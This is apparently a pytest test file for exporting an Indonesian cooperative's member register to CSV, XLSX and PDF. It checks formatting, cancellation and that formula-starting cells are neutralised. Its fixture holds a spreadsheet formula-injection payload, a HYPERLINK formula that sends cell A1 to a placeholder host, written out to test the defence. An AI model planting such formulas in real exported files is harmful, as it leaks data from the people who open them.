"""Exporting the register to real CSV, XLSX and PDF files, read back."""

from __future__ import annotations

import csv
import datetime as dt
import io
import threading
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from assembly.domain.errors import DomainError
from assembly.domain.members import Category, Member, Sex, Status
from assembly.services.member_export import inert
from assembly.services.progress import Cancelled, Progress

INJECTED = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'

MEMBERS = [
    Member(
        "KSP-000001",
        "Siti Nurjanah",
        nik="3404015708450001",
        sex=Sex.FEMALE,
        birth_date=dt.date(1945, 8, 17),
        address="Jl. Kaliurang Km 9 No. 23, RT 004/RW 012, Desa Sinduharjo, Kec. Ngaglik",
        phone="081234567890",
        joined_on=dt.date(1990, 1, 5),
        arrears=True,
    ),
    Member(
        "KSP-000002",
        INJECTED,
        sex=Sex.MALE,
        address="+62 274 123456",
        phone="@SUM(1+1)",
        joined_on=dt.date(2001, 2, 3),
        status=Status.RESIGNED,
        exit_date=dt.date(2020, 6, 30),
        exit_reason="-2+3 pindah",
    ),
    Member("KSP-000003", "Yohanes Don Bosko Seran", category=Category.CANDIDATE),
]


@pytest.fixture
def register(cooperative: object) -> object:
    for member in MEMBERS:
        cooperative.register.save(member)  # type: ignore[attr-defined]
    return cooperative


def test_inert_prefixes_every_formula_start() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert inert(text) == "'" + text
    assert inert("Siti") == "Siti"
    assert inert("") == ""


def test_csv_has_bom_commas_and_the_register(register: object, tmp_path: Path) -> None:
    path = tmp_path / "anggota.csv"
    assert register.exporter.export(path) == 3  # type: ignore[attr-defined]
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0][:3] == ["Nomor anggota", "Nama", "NIK"]
    assert len(rows) == 4
    siti = dict(zip(rows[0], rows[1], strict=True))
    assert siti["NIK"] == "3404015708450001"
    assert siti["Jenis kelamin"] == "P"
    assert siti["Tanggal lahir"] == "1945-08-17"
    assert siti["Alamat"] == MEMBERS[0].address
    assert siti["Telepon"] == "081234567890"
    assert siti["Tunggakan"] == "Ya"
    assert siti["Status"] == "Aktif" and siti["Kategori"] == "Anggota"
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["Status"] == "Keluar" and second["Tanggal keluar"] == "2020-06-30"
    assert rows[3][rows[0].index("Kategori")] == "Calon anggota"
    assert b"\r\n" in raw


def test_csv_makes_formulas_inert(register: object, tmp_path: Path) -> None:
    path = tmp_path / "anggota.csv"
    register.exporter.export(path)  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["Nama"] == "'" + INJECTED
    assert second["Alamat"] == "'+62 274 123456"
    assert second["Telepon"] == "'@SUM(1+1)"
    assert second["Alasan keluar"] == "'-2+3 pindah"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_xlsx_has_bold_frozen_header_dates_and_inert_text(register: object, tmp_path: Path) -> None:
    path = tmp_path / "anggota.xlsx"
    assert register.exporter.export(path) == 3  # type: ignore[attr-defined]
    sheet = load_workbook(path).active
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["Nomor anggota", "Nama"]
    assert all(c.font.b for c in sheet[1])
    siti = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert siti["NIK"].value == "3404015708450001" and siti["NIK"].data_type == "s"
    assert siti["Telepon"].value == "081234567890"
    assert siti["Tanggal lahir"].is_date
    assert siti["Tanggal lahir"].value.date() == dt.date(1945, 8, 17)
    assert siti["Tanggal masuk"].value.date() == dt.date(1990, 1, 5)
    second = {h: c for h, c in zip(header, sheet[3], strict=True)}
    assert second["Nama"].value == "'" + INJECTED
    assert second["Nama"].data_type == "s"  # text, not a formula
    assert second["Tanggal keluar"].value.date() == dt.date(2020, 6, 30)
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)


def test_pdf_is_the_register_book(register: object, tmp_path: Path) -> None:
    path = tmp_path / "buku.pdf"
    assert register.exporter.export(path) == 3  # type: ignore[attr-defined]
    text = " ".join(PdfReader(path).pages[0].extract_text().split())
    assert "BUKU DAFTAR ANGGOTA" in text
    assert "Siti Nurjanah" in text and "KSP-000003" in text
    assert "Halaman 1 dari 1" in text


def test_pdf_on_f4(register: object, tmp_path: Path) -> None:
    path = tmp_path / "buku.pdf"
    register.exporter.export(path, paper="F4")  # type: ignore[attr-defined]
    page = PdfReader(path).pages[0]
    assert round(float(page.mediabox.width) / 72 * 25.4) == 330


def test_unknown_extension_is_refused_and_nothing_written(register: object, tmp_path: Path) -> None:
    folder = tmp_path / "ekspor"
    folder.mkdir()
    with pytest.raises(DomainError) as refused:
        register.exporter.export(folder / "anggota.txt")  # type: ignore[attr-defined]
    assert ".csv, .xlsx, atau .pdf" in refused.value.message
    assert list(folder.iterdir()) == []


def test_cancelled_export_leaves_no_file_and_keeps_the_old_one(
    register: object, tmp_path: Path
) -> None:
    folder = tmp_path / "ekspor"
    folder.mkdir()
    for suffix in (".csv", ".xlsx", ".pdf"):
        path = folder / f"anggota{suffix}"
        path.write_bytes(b"the earlier export")
        cancel = threading.Event()

        def report(done: int, _total: int, cancel: threading.Event = cancel) -> None:
            if done >= 0:
                cancel.set()  # the user presses Batal as soon as the work starts

        with pytest.raises(Cancelled):
            register.exporter.export(path, Progress(report, cancel))  # type: ignore[attr-defined]
        assert path.read_bytes() == b"the earlier export"
        assert not [p.name for p in folder.iterdir() if p.name.startswith(".")]


def test_failed_export_into_a_missing_folder_is_a_clear_refusal(
    register: object, tmp_path: Path
) -> None:
    path = tmp_path / "tidak-ada" / "anggota.csv"
    with pytest.raises(DomainError) as refused:
        register.exporter.export(path)  # type: ignore[attr-defined]
    assert "tidak ada" in refused.value.message
    assert not path.parent.exists()


def test_a_write_error_half_way_leaves_no_file(register: object, tmp_path: Path) -> None:
    """A failure inside the writer (here: a progress report that raises) removes the part."""
    folder = tmp_path / "ekspor"
    folder.mkdir()
    path = folder / "anggota.xlsx"

    def report(done: int, _total: int) -> None:
        if done > 0:
            raise OSError(28, "No space left on device")

    with pytest.raises(DomainError) as refused:
        register.exporter.export(path, Progress(report))  # type: ignore[attr-defined]
    assert "tidak dapat ditulis" in refused.value.message
    assert list(folder.iterdir()) == []
